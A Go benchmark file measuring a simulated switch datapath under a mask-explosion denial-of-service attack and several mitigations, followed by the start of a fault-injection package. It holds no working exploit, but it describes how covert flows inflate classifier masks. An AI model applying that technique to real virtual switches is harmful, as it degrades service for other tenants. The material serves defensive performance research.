// BenchmarkSortedTSS — ablation: hit-count subtable ordering under attack,
// for an established flow (rescued) — compare against
// BenchmarkFig3VictimPath/under-attack to see the gap churn pays.
func BenchmarkSortedTSS(b *testing.B) {
	sw := attackSwitch(b, attack.TwoField(), true,
		noEMC,
		dataplane.WithMegaflow(cache.MegaflowConfig{SortByHits: true, SortEvery: 256}))
	gen := victimGen()
	for i := 0; i < 1024; i++ { // let the ordering settle
		sw.ProcessKey(1, gen.Next())
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		sw.ProcessKey(2, gen.Next())
	}
}

// BenchmarkUnwildcarding — ablation of the root cause: slow-path lookup
// with and without trie-gated subtable skipping. Disabling prefix
// tracking removes the attack surface (megaflows get full-width masks)
// at the cost of probing every subtable.
func BenchmarkUnwildcarding(b *testing.B) {
	for _, c := range []struct {
		name   string
		fields []flow.FieldID
	}{
		{"tries-on", nil},
		{"tries-off", []flow.FieldID{}},
	} {
		b.Run(c.name, func(b *testing.B) {
			var tbl flowtable.Table
			cls := classifier.New(classifier.Config{PrefixFields: c.fields})
			atk := attack.TwoField()
			theACL, _ := atk.BuildACL()
			rules, _ := theACL.Compile()
			for _, r := range rules {
				cls.Insert(tbl.Insert(r))
			}
			keys, _ := atk.Keys()
			b.ResetTimer()
			masks := map[flow.Mask]bool{}
			for i := 0; i < b.N; i++ {
				res := cls.Lookup(keys[i%len(keys)])
				masks[res.Megaflow.Mask] = true
			}
			b.ReportMetric(float64(len(masks)), "distinct-masks")
		})
	}
}

// BenchmarkExtract — the frame-parsing hot path (zero allocations).
func BenchmarkExtract(b *testing.B) {
	frame := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.0.0.1"), Dst: netip.MustParseAddr("10.0.0.2"),
		Proto: pkt.ProtoTCP, SrcPort: 40000, DstPort: 443, FrameLen: 1514,
	})
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := pkt.Extract(frame, 1); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkUpcall — slow-path classification cost (classifier lookup +
// megaflow synthesis) at ACL scale.
func BenchmarkUpcall(b *testing.B) {
	sw := attackSwitch(b, attack.TwoField(), false, noEMC)
	cls := sw.Classifier()
	gen := victimGen()
	keys := gen.Flows()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cls.Lookup(keys[i%len(keys)])
	}
}

// BenchmarkRevalidator — per-round cost of the clock-driven maintenance
// actor: dump cost vs cache size (512- vs 8192-mask attack populations),
// idle vs under covert-stream churn. The idle variant holds the cache
// static (far-future max-idle) and re-checks every entry against the slow
// path each round — dump cost proportional to the flow count the attacker
// controls, which is exactly the lever behind the flow-limit backoff. The
// churn variant keeps a 16th of the covert stream cycling per round with a
// short max-idle, so each dump both expires idle flows and walks fresh
// reinstalls.
func BenchmarkRevalidator(b *testing.B) {
	for _, c := range []struct {
		name string
		atk  func() *attack.Attack
	}{
		{"masks512", attack.TwoField},
		{"masks8192", attack.ThreeField},
	} {
		b.Run(c.name+"/idle", func(b *testing.B) {
			sw := attackSwitch(b, c.atk(), true, noEMC)
			rev := revalidator.New(revalidator.Config{MaxIdle: 1 << 40, PolicyCheck: true})
			rev.Attach(sw)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				rev.Tick(uint64(i))
			}
			b.ReportMetric(float64(rev.Stats().Last.Flows), "flows/dump")
		})
		b.Run(c.name+"/churn", func(b *testing.B) {
			atk := c.atk()
			sw := attackSwitch(b, atk, true, noEMC)
			covert, err := atk.Keys()
			if err != nil {
				b.Fatal(err)
			}
			for i := range covert {
				covert[i].Set(flow.FieldInPort, 66)
			}
			rev := revalidator.New(revalidator.Config{MaxIdle: 8})
			rev.Attach(sw)
			slice := len(covert) / 16
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				now := uint64(i)
				start := i * slice
				for j := 0; j < slice; j++ {
					sw.ProcessKey(now, covert[(start+j)%len(covert)])
				}
				rev.Tick(now)
			}
			b.ReportMetric(float64(rev.Stats().TotalIdleEvicted)/float64(b.N), "evictions/round")
		})
	}
}

// BenchmarkGuardOverhead — the price of the overload-control guard
// layer on a healthy datapath. Both arms run identical workloads; the
// guarded arm wires the admission queue and the mask ledger with
// quotas far above what the workload uses, so nothing ever trips,
// drops or rejects — the delta is pure bookkeeping. "hit" is the
// steady-state warm-megaflow path (the guards hook only the slow path,
// so the delta must vanish); "upcall" cycles keys past the
// idle-eviction horizon so every ProcessKey is a slow-path miss — one
// admission check per upcall plus ledger accounting per mask mint.
func BenchmarkGuardOverhead(b *testing.B) {
	keys := make([]flow.Key, 256)
	for i := range keys {
		keys[i].Set(flow.FieldInPort, 1)
		keys[i].Set(flow.FieldEthType, flow.EthTypeIPv4)
		keys[i].Set(flow.FieldIPSrc, 0x0a0a0000|uint64(i))
	}
	arms := []struct {
		name string
		opts func() []dataplane.Option
	}{
		{"bare", func() []dataplane.Option { return []dataplane.Option{noEMC} }},
		{"guarded", func() []dataplane.Option {
			grd := guard.New(guard.Config{
				Admission: &guard.AdmissionConfig{QueueDepth: 1 << 16, PortQuota: 1 << 16},
				MaskQuota: &guard.MaskQuotaConfig{PerTenant: 1 << 20},
			})
			grd.Masks.BindPort(1, "victim")
			grd.Masks.BindPort(66, "mallory")
			return []dataplane.Option{noEMC,
				dataplane.WithUpcallGuard(grd.Admission),
				dataplane.WithMaskGuard(grd.Masks)}
		}},
	}
	for _, arm := range arms {
		b.Run("hit/"+arm.name, func(b *testing.B) {
			sw := attackSwitch(b, attack.TwoField(), false, arm.opts()...)
			sw.ProcessKey(1, keys[0]) // warm the megaflow
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(1, keys[0])
			}
		})
		b.Run("upcall/"+arm.name, func(b *testing.B) {
			// The covert ladder keys each mint their own megaflow (the
			// victim keys all share the /24 entry, which never idles
			// out). Cycled one per tick against an idle horizon of half
			// the cycle, every key is swept before it comes around
			// again, so each iteration re-upcalls and reinstalls.
			atk := attack.TwoField()
			covert, err := atk.Keys()
			if err != nil {
				b.Fatal(err)
			}
			for i := range covert {
				covert[i].Set(flow.FieldInPort, 66)
			}
			opts := append(arm.opts(), dataplane.WithMaxIdle(uint64(len(covert)/2)))
			sw := attackSwitch(b, atk, false, opts...)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				now := uint64(i) + 1
				sw.ProcessKey(now, covert[i%len(covert)])
				if i%32 == 31 {
					sw.RunRevalidator(now)
				}
			}
			b.ReportMetric(float64(sw.Counters().Upcalls)/float64(b.N), "upcalls/op")
		})
	}
}

// BenchmarkEndToEndFrame — whole-pipeline frame processing (parse +
// caches) for an established flow, the number a datapath README quotes.
func BenchmarkEndToEndFrame(b *testing.B) {
	sw := attackSwitch(b, attack.TwoField(), false)
	frame := pkt.MustBuild(pkt.Spec{
		Src: netip.MustParseAddr("10.10.0.5"), Dst: netip.MustParseAddr("172.16.0.2"),
		Proto: pkt.ProtoTCP, SrcPort: 49152, DstPort: 5201, FrameLen: 1514,
	})
	sw.AddPort(1, "victim")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := sw.Process(2, 1, frame); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkStatefulRecirc — extension ablation: per-packet cost of the
// conntrack-recirculated pipeline for an established connection, against
// the stateless single-pass equivalent. The delta is the price of
// statefulness (two cache passes + the tracker lookup).
func BenchmarkStatefulRecirc(b *testing.B) {
	for _, stateful := range []bool{false, true} {
		name := "stateless"
		if stateful {
			name = "stateful"
		}
		b.Run(name, func(b *testing.B) {
			opts := []dataplane.Option{noEMC}
			if stateful {
				opts = append(opts, dataplane.WithConntrack(conntrack.Config{}))
			}
			sw := dataplane.New("bench", opts...)
			group := &acl.ACL{Stateful: stateful}
			group.Allow(acl.Entry{Src: netip.MustParsePrefix("10.0.0.0/8")})
			rules, err := group.Compile()
			if err != nil {
				b.Fatal(err)
			}
			for _, r := range rules {
				sw.InstallRule(r)
			}
			fwd := flow.FiveTuple{
				Src: netip.MustParseAddr("10.1.2.3"), Dst: netip.MustParseAddr("172.16.0.1"),
				Proto: 6, SrcPort: 40000, DstPort: 443,
			}.Key(1)
			rev := flow.FiveTuple{
				Src: netip.MustParseAddr("172.16.0.1"), Dst: netip.MustParseAddr("10.1.2.3"),
				Proto: 6, SrcPort: 443, DstPort: 40000,
			}.Key(2)
			sw.ProcessKey(1, fwd)
			sw.ProcessKey(2, rev) // establish when stateful
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(3, fwd)
			}
		})
	}
}

// BenchmarkProcessBatch — the batch API contract: driving the pipeline
// with ProcessBatch must cost no more per packet than the equivalent
// ProcessKey loop. Each iteration processes one 256-key burst of victim
// traffic (warm caches), so ns/op is directly comparable between the two
// sub-benchmarks.
func BenchmarkProcessBatch(b *testing.B) {
	burst := func(b *testing.B) []flow.Key {
		b.Helper()
		gen := victimGen()
		keys := make([]flow.Key, 256)
		for i := range keys {
			keys[i] = gen.Next()
		}
		return keys
	}
	b.Run("sequential", func(b *testing.B) {
		sw := attackSwitch(b, attack.TwoField(), false)
		keys := burst(b)
		out := make([]dataplane.Decision, len(keys))
		for _, k := range keys {
			sw.ProcessKey(1, k) // warm
		}
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			for j, k := range keys {
				out[j] = sw.ProcessKey(2, k)
			}
		}
	})
	b.Run("batch", func(b *testing.B) {
		sw := attackSwitch(b, attack.TwoField(), false)
		keys := burst(b)
		out := sw.ProcessBatch(1, keys, nil) // warm
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			out = sw.ProcessBatch(2, keys, out)
		}
	})
	b.Run("pmd-batch", func(b *testing.B) {
		pool := dataplane.NewPMDPool(4, "bench")
		var vm flow.Match
		vm.Key.Set(flow.FieldInPort, 1)
		vm.Mask.SetExact(flow.FieldInPort)
		pool.InstallRule(flowtable.Rule{Match: vm, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
		pool.InstallRule(flowtable.Rule{Priority: 0})
		keys := burst(b)
		out := pool.ProcessBatch(1, keys, nil) // warm
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			out = pool.ProcessBatch(2, keys, out)
		}
	})
}

// BenchmarkBatchVsScalar — the burst-vectorization payoff, per workload.
// "scalar" drives the pipeline one ProcessKey at a time (the per-packet
// tier walk); "batch" hands the same keys to ProcessBatch (vectorized
// tier sweep + cached hashes + same-flow run coalescing).
//
//   - benign: distinct warm victim flows; EMC hits either way, so batch
//     must simply not regress.
//   - elephant: few flows in long same-key runs (heavy-tailed traffic);
//     run coalescing collapses each run into one lookup + n accountings.
//   - attack: the paper's exploded-mask state (8192 covert masks, kernel
//     datapath model) with the victim's megaflows installed last; the
//     inverted sweep visits each subtable once per burst instead of once
//     per key, so each mask's table stays cache-hot across the burst.
//
// The acceptance bar for the vectorized path is the attack workload at a
// 32-key burst: batch must beat scalar there.
func BenchmarkBatchVsScalar(b *testing.B) {
	type workload struct {
		name  string
		build func(b *testing.B) *dataplane.Switch
		burst func(sw *dataplane.Switch) []flow.Key
	}
	distinctBurst := func(n int) func(*dataplane.Switch) []flow.Key {
		return func(sw *dataplane.Switch) []flow.Key {
			gen := victimGen()
			keys := make([]flow.Key, n)
			for i := range keys {
				keys[i] = gen.Next()
			}
			for _, k := range keys { // warm the caches
				sw.ProcessKey(1, k)
			}
			return keys
		}
	}
	elephantBurst := func(flows, runLen int) func(*dataplane.Switch) []flow.Key {
		return func(sw *dataplane.Switch) []flow.Key {
			gen := victimGen()
			keys := make([]flow.Key, 0, flows*runLen)
			for f := 0; f < flows; f++ {
				k := gen.Next()
				sw.ProcessKey(1, k)
				for j := 0; j < runLen; j++ {
					keys = append(keys, k)
				}
			}
			return keys
		}
	}
	workloads := []workload{
		{
			name:  "benign/256",
			build: func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.TwoField(), false) },
			burst: distinctBurst(256),
		},
		{
			name:  "elephant/8x32",
			build: func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.TwoField(), false) },
			burst: elephantBurst(8, 32),
		},
		{
			name:  "attack/32",
			build: func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.ThreeField(), true, noEMC) },
			burst: distinctBurst(32),
		},
		{
			name:  "attack/256",
			build: func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.ThreeField(), true, noEMC) },
			burst: distinctBurst(256),
		},
	}
	for _, w := range workloads {
		b.Run(w.name+"/scalar", func(b *testing.B) {
			sw := w.build(b)
			keys := w.burst(sw)
			out := make([]dataplane.Decision, len(keys))
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for j, k := range keys {
					out[j] = sw.ProcessKey(2, k)
				}
			}
			b.ReportMetric(float64(len(keys)), "burst")
		})
		b.Run(w.name+"/batch", func(b *testing.B) {
			sw := w.build(b)
			keys := w.burst(sw)
			out := sw.ProcessBatch(1, keys, nil)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				out = sw.ProcessBatch(2, keys, out)
			}
			b.ReportMetric(float64(len(keys)), "burst")
		})
	}
}

// BenchmarkFramePath — the frame-first ingress payoff: end-to-end cost
// (parse included) of the same wire burst through the three entry points,
// per workload.
//
//   - frames: one ProcessFrames call per burst — batched extract (single
//     bounds check on the common shape), one hash pass, vectorized tier
//     walk. The new first-class door.
//   - scalar: a looped scalar Process — per-frame extract, per-frame tier
//     walk. The old entry point; the acceptance bar is frames beating
//     this on both workloads.
//   - keys: the key-level ProcessBatch over pre-extracted keys, i.e. the
//     PR 2 surface with parsing billed to nobody — the gap between
//     "keys" and "frames" is what the parse stage really costs.
//
// Workloads: the warm victim mix (8 iperf flows, MTU frames, EMC hits)
// and the same victim stream at the paper's full-blown attack operating
// point (8192 covert masks resident, kernel datapath model, so every
// packet scans the whole exploded subtable ladder — the regime where the
// inverted per-burst sweep pays).
func BenchmarkFramePath(b *testing.B) {
	type workload struct {
		name   string
		build  func(b *testing.B) *dataplane.Switch
		inPort uint32
		frames func(b *testing.B, sw *dataplane.Switch) [][]byte
	}
	workloads := []workload{
		{
			name:   "victim/256",
			build:  func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.TwoField(), false) },
			inPort: 1,
			frames: func(b *testing.B, sw *dataplane.Switch) [][]byte {
				gen := victimGen()
				frames := make([][]byte, 256)
				for i := range frames {
					frames[i], _ = gen.NextFrame()
				}
				return frames
			},
		},
		{
			name:   "attack8192/32",
			build:  func(b *testing.B) *dataplane.Switch { return attackSwitch(b, attack.ThreeField(), true, noEMC) },
			inPort: 1,
			frames: func(b *testing.B, sw *dataplane.Switch) [][]byte {
				gen := victimGen()
				frames := make([][]byte, 32)
				for i := range frames {
					frames[i], _ = gen.NextFrame()
				}
				return frames
			},
		},
	}
	for _, w := range workloads {
		frameBurst := func(b *testing.B, sw *dataplane.Switch) *dataplane.FrameBatch {
			b.Helper()
			var fb dataplane.FrameBatch
			for _, f := range w.frames(b, sw) {
				fb.Append(f, w.inPort)
			}
			sw.ProcessFrames(1, &fb, nil) // warm
			return &fb
		}
		b.Run(w.name+"/frames", func(b *testing.B) {
			sw := w.build(b)
			fb := frameBurst(b, sw)
			var out []dataplane.Decision
			out = sw.ProcessFrames(2, fb, out) // size the scratch before timing
			b.ReportAllocs()                   // the hot path holds 0 allocs/op; see TestFramePathZeroAlloc
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				out = sw.ProcessFrames(2, fb, out)
			}
			b.ReportMetric(float64(fb.Len()), "burst")
		})
		b.Run(w.name+"/scalar", func(b *testing.B) {
			sw := w.build(b)
			fb := frameBurst(b, sw)
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				for _, f := range fb.Frames {
					if _, err := sw.Process(2, w.inPort, f); err != nil {
						b.Fatal(err)
					}
				}
			}
			b.ReportMetric(float64(fb.Len()), "burst")
		})
		b.Run(w.name+"/keys", func(b *testing.B) {
			sw := w.build(b)
			fb := frameBurst(b, sw)
			keys := make([]flow.Key, fb.Len())
			for i := range keys {
				k, err := pkt.Extract(fb.Frames[i], w.inPort)
				if err != nil {
					b.Fatal(err)
				}
				keys[i] = k
			}
			out := sw.ProcessBatch(1, keys, nil) // warm
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				out = sw.ProcessBatch(2, keys, out)
			}
			b.ReportMetric(float64(fb.Len()), "burst")
		})
	}
}

// BenchmarkSubtablePruning — the staged-lookup payoff, per workload, with
// pruning off ("flat") and on ("pruned"). All variants run against the
// paper's full-blown operating point: the 8192-mask three-field attack
// resident, kernel datapath model (no EMC), victim megaflows installed
// behind the covert ladder.
//
//   - victim/256: a burst of distinct warm victim flows. Flat, every key
//     walks the whole exploded ladder to its megaflow; pruned, the
//     stage-0 signature (the attacker's pinned in_port) rejects every
//     covert subtable for the entire burst — this workload must show the
//     multi-x cut and must not regress pre-attack traffic.
//   - elephant/8x32: few flows in long same-key runs; run coalescing
//     already collapses most lookups, pruning trims the rest.
//   - attack8192/32: the covert burst itself — worst case for the
//     signature filter, since every key shares the attacker's in_port.
//     In the timed steady state (the same burst repeated) the EWMA
//     ranking floats the burst's own subtables to the front; on a
//     cycling covert stream the ports filter and the L3 stage bail are
//     what reject almost every subtable before the full probe (the
//     regime the warmup's first bursts and mitigation.StagedPruning()
//     exercise).
//
// The "visits/burst" metric is the subtables physically probed per burst
// (scan positions for flat, stage hashes + full probes for pruned); the
// acceptance bar is >= 4x fewer under pruning on the attack mix, and the
// attack curve in `figures -fig 3` bending flat. Coalesced same-flow
// runs bill MasksScanned logically without probing (AccountRun), so the
// flat leg subtracts RunBilledScans to stay physical and comparable to
// the pruned leg's SubtableVisits.
func BenchmarkSubtablePruning(b *testing.B) {
	type workload struct {
		name  string
		burst func(b *testing.B, sw *dataplane.Switch) []flow.Key
	}
	covertBurst := func(n int) func(*testing.B, *dataplane.Switch) []flow.Key {
		return func(b *testing.B, sw *dataplane.Switch) []flow.Key {
			b.Helper()
			atk := attack.ThreeField()
			covert, err := atk.Keys()
			if err != nil {
				b.Fatal(err)
			}
			// Sample the covert sequence with a stride so the burst's
			// megaflows spread across the whole resident ladder instead of
			// clustering at the front of the scan order.
			keys := make([]flow.Key, n)
			for i := range keys {
				keys[i] = covert[(i*len(covert)/n)%len(covert)]
				keys[i].Set(flow.FieldInPort, 66)
			}
			return keys
		}
	}
	workloads := []workload{
		{
			name: "victim/256",
			burst: func(_ *testing.B, sw *dataplane.Switch) []flow.Key {
				gen := victimGen()
				keys := make([]flow.Key, 256)
				for i := range keys {
					keys[i] = gen.Next()
				}
				for _, k := range keys { // warm: victim megaflows install last
					sw.ProcessKey(2, k)
				}
				return keys
			},
		},
		{
			name: "elephant/8x32",
			burst: func(_ *testing.B, sw *dataplane.Switch) []flow.Key {
				gen := victimGen()
				keys := make([]flow.Key, 0, 8*32)
				for f := 0; f < 8; f++ {
					k := gen.Next()
					sw.ProcessKey(2, k)
					for j := 0; j < 32; j++ {
						keys = append(keys, k)
					}
				}
				return keys
			},
		},
		{name: "attack8192/32", burst: covertBurst(32)},
	}
	for _, w := range workloads {
		for _, staged := range []bool{false, true} {
			name, opts := w.name+"/flat", []dataplane.Option{noEMC}
			if staged {
				name = w.name + "/pruned"
				opts = append(opts, dataplane.WithStagedPruning())
			}
			b.Run(name, func(b *testing.B) {
				sw := attackSwitch(b, attack.ThreeField(), true, opts...)
				keys := w.burst(b, sw)
				var out []dataplane.Decision
				// Warm to steady state before the timer: the staged legs
				// drive several full RankEvery windows so the EWMA scan
				// ranking converges — otherwise ns/op depends on how many
				// pre-convergence sweeps fall inside b.N, which would make
				// the CI regression gate flaky across benchtimes.
				warmLookups := len(keys)
				if staged {
					warmLookups = 6 * 4096
				}
				for done := 0; done < warmLookups; done += len(keys) {
					out = sw.ProcessBatch(3, keys, out)
				}
				mf := sw.Megaflow()
				scans0, billed0 := mf.MasksScanned, mf.RunBilledScans
				visits0, prunes0 := mf.SubtableVisits, mf.SubtablePrunes
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					out = sw.ProcessBatch(4, keys, out)
				}
				b.StopTimer()
				n := float64(b.N)
				if staged {
					b.ReportMetric(float64(mf.SubtableVisits-visits0)/n, "visits/burst")
					b.ReportMetric(float64(mf.SubtablePrunes-prunes0)/n, "prunes/burst")
				} else {
					physical := (mf.MasksScanned - scans0) - (mf.RunBilledScans - billed0)
					b.ReportMetric(float64(physical)/n, "visits/burst")
				}
				b.ReportMetric(float64(len(keys)), "burst")
			})
		}
	}
}

// BenchmarkTelemetryOverhead — the price of live instrumentation on the
// frame hot path. Both arms drive the identical warm 256-frame victim
// burst through ProcessFrames; the instrumented arm records into an
// attached telemetry registry (per-burst wall/size/scan histograms,
// counter-delta settlement, per-tier latency). The acceptance bar is
// instrumented within 5% of bare ns/op at 0 allocs/op — the CI pin
// gates the instrumented arm so registry regressions surface as
// benchdiff failures.
func BenchmarkTelemetryOverhead(b *testing.B) {
	arms := []struct {
		name string
		opts []dataplane.Option
	}{
		{"bare", nil},
		{"instrumented", []dataplane.Option{dataplane.WithTelemetry(telemetry.NewRegistry())}},
	}
	for _, arm := range arms {
		b.Run(arm.name, func(b *testing.B) {
			sw := attackSwitch(b, attack.TwoField(), false, arm.opts...)
			gen := victimGen()
			var fb dataplane.FrameBatch
			for i := 0; i < 256; i++ {
				f, _ := gen.NextFrame()
				fb.Append(f, 1)
			}
			out := sw.ProcessFrames(1, &fb, nil) // warm caches and scratch
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				out = sw.ProcessFrames(2, &fb, out)
			}
			b.ReportMetric(float64(fb.Len()), "burst")
		})
	}
}

// BenchmarkHierarchies — the tier-composition payoff: victim per-packet
// cost under the resident 512-mask attack, for each cache hierarchy the
// options can assemble. The attack floods 8192 distinct covert keys per
// iteration block, which thrashes the 8192-entry EMC but cannot dent the
// ~1M-entry SMC — so SMC-bearing hierarchies keep the victim's warm flows
// off the mask scan even mid-flood, a mask-scan economics the paper's
// OVS 2.6 target did not have.
func BenchmarkHierarchies(b *testing.B) {
	hierarchies := []struct {
		name string
		opts []dataplane.Option
	}{
		{"emc-only", nil},
		{"emc+smc", []dataplane.Option{dataplane.WithSMC(cache.SMCConfig{})}},
		{"smc-only", []dataplane.Option{noEMC, dataplane.WithSMC(cache.SMCConfig{})}},
		{"tss-only", []dataplane.Option{noEMC}},
	}
	for _, h := range hierarchies {
		b.Run(h.name, func(b *testing.B) {
			atk := attack.TwoField()
			sw := attackSwitch(b, atk, true, h.opts...)
			covert, err := atk.Keys()
			if err != nil {
				b.Fatal(err)
			}
			for i := range covert {
				covert[i].Set(flow.FieldInPort, 66)
			}
			gen := victimGen()
			// Warm the victim flows, then keep the covert flood cycling so
			// EMC-style caches feel the eviction pressure they would in a
			// live attack.
			for i := 0; i < 512; i++ {
				sw.ProcessKey(1, gen.Next())
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if i%16 == 0 {
					sw.ProcessKey(2, covert[(i/16)%len(covert)])
				}
				sw.ProcessKey(2, gen.Next())
			}
		})
	}
}

// BenchmarkShardedScaling — the multi-writer payoff (acceptance gate of
// the sharded datapath): GOMAXPROCS workers push warm bursts through
//
//   - single: one unsharded switch behind a mutex — the only correct way
//     to drive the single-writer datapath from many cores, and exactly
//     what the old contract forced pools of threads into.
//   - sharded: one NewSharedPMDPool view per worker over the same shared
//     sharded hierarchy — per-shard read locks on lookup, per-shard
//     insert locks on upcall, no global serialization anywhere.
//
// Workloads: the warm elephant mix (8 victim flows, long same-flow runs,
// run-coalesced accounting) and the victim stream at the 8192-mask attack
// operating point (kernel model, no EMC). The elephant ratio is the
// headline: sharded must clear 3x single at 8 procs. The attack-mix
// point rides the bench matrix so the scaling curve stays monotone under
// mask explosion too.
func BenchmarkShardedScaling(b *testing.B) {
	// Each worker owns a disjoint flow set within the victim /24 — the
	// RSS-steered reality a PMD core sees. Sharing one burst across
	// workers would instead measure atomic stat contention on identical
	// entries, which no deployment exhibits.
	workerBurst := func(p int, elephant bool, warm func(flow.Key)) []flow.Key {
		gen := traffic.NewVictim(traffic.VictimConfig{
			Src:    netip.AddrFrom4([4]byte{10, 10, 0, byte(16 + p)}),
			Dst:    netip.MustParseAddr("172.16.0.2"),
			InPort: 1,
		})
		keys := make([]flow.Key, 0, 256)
		if elephant {
			for f := 0; f < 8; f++ { // 8 warm flows, 32-packet runs
				k := gen.Next()
				warm(k)
				for j := 0; j < 32; j++ {
					keys = append(keys, k)
				}
			}
			return keys
		}
		gen2 := traffic.NewVictim(traffic.VictimConfig{
			Src:    netip.AddrFrom4([4]byte{10, 10, 0, byte(128 + p)}),
			Dst:    netip.MustParseAddr("172.16.0.2"),
			InPort: 1, Flows: 128,
		})
		for i := 0; i < 256; i++ { // 256 distinct warm flows
			k := gen.Next()
			if i%2 == 1 {
				k = gen2.Next()
			}
			warm(k)
			keys = append(keys, k)
		}
		return keys
	}
	workloads := []struct {
		name     string
		atk      *attack.Attack
		exec     bool
		opts     []dataplane.Option
		elephant bool
	}{
		{name: "elephant", atk: attack.TwoField(), elephant: true},
		{name: "attack8192", atk: attack.ThreeField(), exec: true, opts: []dataplane.Option{noEMC}},
	}
	P := runtime.GOMAXPROCS(0)
	for _, w := range workloads {
		b.Run(w.name+"/single", func(b *testing.B) {
			sw := attackSwitch(b, w.atk, w.exec, w.opts...)
			bursts := make([][]flow.Key, P)
			for p := range bursts {
				bursts[p] = workerBurst(p, w.elephant, func(k flow.Key) { sw.ProcessKey(1, k) })
			}
			var mu sync.Mutex
			var next atomic.Uint32
			b.ResetTimer()
			b.RunParallel(func(pb *testing.PB) {
				keys := bursts[int(next.Add(1)-1)%P]
				var out []dataplane.Decision
				for pb.Next() {
					mu.Lock()
					out = sw.ProcessBatch(2, keys, out)
					mu.Unlock()
				}
			})
			b.ReportMetric(float64(len(bursts[0])), "burst")
		})
		b.Run(w.name+"/sharded", func(b *testing.B) {
			pool := dataplane.NewSharedPMDPool(P, "bench", w.opts...)
			installAttackPolicy(b, w.atk, pool.InstallRule)
			if w.exec {
				pool.PMD(0).ProcessBatch(1, covertKeys(b, w.atk), nil)
			}
			bursts := make([][]flow.Key, P)
			for p := range bursts {
				sw := pool.PMD(p)
				bursts[p] = workerBurst(p, w.elephant, func(k flow.Key) { sw.ProcessKey(1, k) })
			}
			var next atomic.Uint32
			b.ResetTimer()
			b.RunParallel(func(pb *testing.PB) {
				id := int(next.Add(1)-1) % P
				sw, keys := pool.PMD(id), bursts[id]
				var out []dataplane.Decision
				for pb.Next() {
					out = sw.ProcessBatch(2, keys, out)
				}
			})
			b.ReportMetric(float64(len(bursts[0])), "burst")
		})
	}
}
