// Package chaos is the deterministic fault-injection harness of the
// scenario runner: seed-driven injectors that wrap the existing
// datapath and revalidator seams and break them on a schedule, so
// degradation-and-recovery becomes a declarative, expectation-checked
// experiment instead of a hand-run incident.
//
// Five fault kinds are modelled, each keyed to a window of the
// scenario's logical clock:
//
//   - stall-revalidator: maintenance rounds are skipped for the window
//     (the timeline loop asks StallRevalidator before Tick).
//   - drop-upcalls: a slow-path install is refused with probability
//     Prob — the handler-queue overflow of a saturated upcall path.
//   - delay-upcalls: installs are held back Delay ticks before landing,
//     so the slow path keeps re-resolving the flow meanwhile.
//   - slow-scan: megaflow scan costs are inflated by Factor — a
//     pathological subtable walk without the masks to show for it.
//   - ct-fill: the conntrack table is filled to capacity with synthetic
//     connections, so real commits bounce off a full table.
//
// All randomness comes from one splitmix64 stream seeded by the
// scenario seed; the same pack and seed replays the same faults
// byte-for-byte.
//
//lint:deterministic
package chaos

import (
	"fmt"

	"policyinject/internal/burst"
	"policyinject/internal/cache"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/metrics"
)

// Fault kinds.
const (
	KindStallRevalidator = "stall-revalidator"
	KindDropUpcalls      = "drop-upcalls"
	KindDelayUpcalls     = "delay-upcalls"
	KindSlowScan         = "slow-scan"
	KindCtFill           = "ct-fill"
)

// Kinds lists every supported fault kind (the scenario binder's
// validation set).
var Kinds = []string{KindStallRevalidator, KindDropUpcalls, KindDelayUpcalls, KindSlowScan, KindCtFill}

// Fault is one scheduled fault: active on logical ticks in [Start,
// Stop), or from Start onward when Stop is 0.
type Fault struct {
	Kind  string
	Start int
	Stop  int
	// Prob is drop-upcalls' per-install drop probability (default 1).
	Prob float64
	// Delay is delay-upcalls' hold-back in ticks (default 1).
	Delay uint64
	// Factor is slow-scan's cost multiplier (default 4).
	Factor float64
}

func (f *Fault) active(now uint64) bool {
	return now >= uint64(f.Start) && (f.Stop == 0 || now < uint64(f.Stop))
}

// Config seeds an injector.
type Config struct {
	Seed   uint64
	Faults []Fault
}

// Stats counts the faults actually fired.
type Stats struct {
	DroppedUpcalls uint64 // installs refused by drop-upcalls
	DelayedUpcalls uint64 // installs held back by delay-upcalls
	LandedDelayed  uint64 // held-back installs that later landed
	StalledRounds  uint64 // revalidator ticks suppressed
	SlowScans      uint64 // lookups whose scan cost was inflated
	CtFilled       uint64 // synthetic conntrack commits
}

// Injector schedules the configured faults against one datapath. Wire
// it with dataplane.WithTierWrapper(inj.WrapTier) for the cache-side
// faults, ask StallRevalidator before each revalidator Tick, and call
// FillConntrack once per tick when a conntrack table exists.
type Injector struct {
	cfg   Config
	rng   uint64
	stats Stats

	delayed []delayedInstall
	ctNext  uint32 // next synthetic connection ordinal
}

// delayedInstall is one held-back megaflow install.
type delayedInstall struct {
	match flow.Match
	v     cache.Verdict
	due   uint64
}

// ErrInjected is returned for installs refused or deferred by a fault,
// so install-error counters attribute them like any real failure.
var ErrInjected = fmt.Errorf("chaos: injected install fault")

// New validates the fault list and builds an injector.
